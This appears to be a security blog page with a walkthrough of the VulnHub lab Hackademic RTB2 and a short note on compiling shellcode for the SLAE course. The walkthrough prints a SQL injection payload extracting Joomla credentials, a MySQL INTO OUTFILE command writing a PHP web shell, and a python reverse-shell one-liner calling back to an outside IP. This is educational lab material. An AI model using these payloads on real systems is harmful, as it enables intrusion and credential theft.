May 21, 2017

Hackademic RTB2 Walkthrough

   Today I will write a small review about intermediate level challenge Hackademic RTB2. You can download it from awesome vulnhub -

1. Reconnaissance

As usual I started with netdiscover:

Next step was to scan ports:

2. Enumeration

In reality I spent a bit of time as port 80 did not reveal anything, port 666 was filtered. I used tool called knock-knock ( After running it I saw port 666 as open. I examined source code of the page and it was shown as Joomla. I enumerated target more using metasploit module for Joomla plugins as it is quite often that plugins are vulnerable.

3. Exploitation

I was right: sectionid was vulnerable to SQL injection. As a next step I entered quote to verify whether it was a true:

As a next step I reviewed Joomla documentation to understand in what table user hashes are stored. I did hands-on SQL Injection exploitation instead of using sqlmap. I revealed field that was suitable for data exfiltration, enumerated tables and etc. Iused this request to extract information about users:,concat(username,0x20,password)%20from%20jos_users--

This gave me hashes:

I cracked hashes usingfrom Cracked hashes did not give me any new footpath. So I decided to utilize another SQLi option - retrieve files. By default Joomla configuration file located in web root. I assumed that /var/wwwwas default path. After I retrieved file I tried "root" username and password to login in phpMyAdmin.

I was able to login. Then I spent some time to create limited shell. I used this video as an example: To tell long story short: I created database and table in MySQL. Then I used INTO OUTFILE MySQL command to create PHP shell in web root:
SELECT "<? system($REQUEST['cmd']); ?>" INTO OUTFILE "/var/www/cmd.php"

Then I used this shell to create connection back to my machine using python.,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((%22192.168.57.101%22,443));os.dup2(s.fileno(),0);%20os.dup2(s.fileno(),1);%20os.dup2(s.fileno(),2);[%22/bin/sh%22,%22-i%22]);%27

4. Privilege escalationAfter quick enumeration I tried several kernel exploits. Machine was rooted using "RDS socket" exploit - I uploaded exploit code using wget to /tmp, compiled with default gcc and got root.


In general machine was not difficult, there were only few tricky momentsto overcome:
1. port knocking - understand that it is in use and find ways to bypass
2. use SQL injection not only to dump hashes but also enumerate files on filesystem
3. shell in phpMyAdmin

May 2, 2017

SLAE compilation problem

   This is a quick note about how I overcame some compilation problems during my SLAE course. Review about the course will be soon. So when I tried to compile shellcode that simple spawn a shell using code that was provided in videos I faced: "Program received signal SIGSEGV, Segmentation fault." I checked everything not once, everything was OK, no stupid typos and stuff like that. So next after some googling Ifound 2 questions on stackoverflow with similar problem. Problem was that in current systems all .text area are marked read only by default.

1. First advice was to use -N option while linking: ld -N shellcode.o -o shell (
2. Secondoption is to use gcc with -omagic option: gcc --static -g -Wl,--omagic -o shellc shell.c(

   Both ways were working as a charm.